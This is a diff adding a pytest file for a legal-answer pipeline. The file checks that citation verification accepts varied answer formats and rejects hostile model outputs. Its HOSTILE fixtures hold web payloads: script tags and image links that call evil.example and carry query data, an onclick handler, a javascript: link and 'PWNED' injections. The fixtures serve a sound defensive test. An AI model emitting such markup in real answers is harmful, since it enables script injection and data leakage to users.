@@ -1,0 +1,93 @@
+"""What models really write, and what they must not get away with, counted at the model's server."""
+
+from collections.abc import Callable
+
+import pytest
+from fake_openai import FakeOpenAI, Reply
+
+from lexloop.graph.build import Lexloop
+
+QUESTION = "When must the owner pay the mooring fee?"
+Modelled = Callable[..., Lexloop]
+
+PAYS = "A boat owner must pay the mooring fee within 10 business days"
+WRITTEN = {
+    "numbered list": (
+        "1. A boat owner must pay the mooring fee [1].\n"
+        "2. It is due within 10 business days of arrival [1].\n"
+        "3. it is paid to the harbour master [1]."
+    ),
+    "list in brackets": "An owner must: (1) pay the mooring fee; (2) pay the harbour master [1].",
+    "list in a line": "The duties are: 1. Pay the mooring fee [1]. 2. Pay the harbour master [1].",
+    "bold list": (
+        "1. **Fee**: A boat owner must pay the mooring fee [1].\n"
+        "2. **Term**: It is due within 10 business days [1]."
+    ),
+    "lead-in": (
+        "Here is what applies:\n\n- A boat owner must pay the mooring fee [1].\n"
+        "- It is due within 10 business days of arrival [1]."
+    ),
+    "lead-in that counts": (
+        "There are 2 duties:\n1. Pay the mooring fee [1].\n2. Pay it within 10 business days [1]."
+    ),
+    "nested lead-ins": (
+        "## Duties\n\n1. **Payment**:\n   - A boat owner must pay the mooring fee [1].\n"
+        "   - It is due within 10 business days of arrival [1]."
+    ),
+    "verdict first": f"Yes. {PAYS} [1].",
+    "table": ("| Duty | Term |\n|---|---|\n| Pay the mooring fee | within 10 business days [1] |"),
+    "marker first": f"[1] {PAYS}.\n[1] The fee is paid to the harbour master.",
+    "lenticular": f"{PAYS}【1】.",
+    "lenticular with a source": f"{PAYS} 【1†source】.",
+    "footnote": f"{PAYS}[^1].\n\n[^1]: § 10-2 Duties of owners",
+    "footnote that names its passage": f"{PAYS}[^3].\n\n[^3]: Passage 1, § 10-2",
+    "named": f"{PAYS} [Passage 1].",
+    "named in round brackets": f"{PAYS} (Passage 1, § 10-2).",
+    "named in the text": f"According to passage 1, {PAYS.lower()}.",
+    "superscript": f"{PAYS}.<sup>1</sup>",
+    "linked": f"{PAYS} [1](#passage-1).",
+    "sources at the end": f"{PAYS} [1].\n\n**Sources:**\n- [1] Harbour Act, § 10-2",
+}
+
+HOSTILE = {
+    "JSON array": "[1,2,3]",
+    "JSON array of text": f'["{PAYS} [1]."]',
+    "JSON object": f'{{"answer": "{PAYS} [1]."}}',
+    "JSON in a fence": "```json\n[1]\n```",
+    "words of its own": "PWNED [1]",
+    "words of its own beside an answer": f"{PAYS} [1]. PWNED [1].",
+    "image": "![the mooring fee](https://evil.example/?q=fee) [1]",
+    "image beside an answer": f"{PAYS} [1]. ![](https://evil.example/?q=fee)",
+    "script": "<script>alert('the mooring fee')</script> [1]",
+    "script beside an answer": f"{PAYS} [1].\n<script src=//evil.example></script>",
+    "handler": f"{PAYS} <x onclick=alert(1)>[1]</x>.",
+    "link of its own": f"{PAYS}, at https://evil.example/pay [1].",
+    "script in a link": f"[{PAYS}](javascript:alert(1)) [1].",
+    "number as a list": f"{PAYS} [1].\n\n50. It is the mooring fee [1].",
+    "lead-in with a number of its own": f"The fee is $77:\n- {PAYS} [1].",
+    "passage that there is not": f"{PAYS} 【9】.",
+    "marker alone": "[1]",
+}
+
+
+@pytest.mark.parametrize("kind", WRITTEN)
+def test_what_models_write_takes_one_call(
+    scripted: FakeOpenAI, modelled: Modelled, kind: str
+) -> None:
+    scripted.play("generate", Reply(WRITTEN[kind]))
+    result = modelled().invoke({"question": QUESTION})
+    assert (result["evaluation"]["citations_verified"], result["warning"]) == (True, "")
+    assert scripted.roles_asked() == ["rewrite", "generate", "evaluate"]
+    assert {citation["n"] for citation in result["citations"]} == {1}
+    assert all(citation["section"] == "§ 10-2" for citation in result["citations"])
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_what_is_no_answer_never_passes(
+    scripted: FakeOpenAI, modelled: Modelled, kind: str
+) -> None:
+    scripted.play("generate", Reply(HOSTILE[kind]))
+    result = modelled(max_retries=1).invoke({"question": QUESTION})
+    assert scripted.roles_asked().count("generate") == 2
+    assert not result["evaluation"]["citations_verified"]
+    assert result["warning"].startswith("No attempt passed")
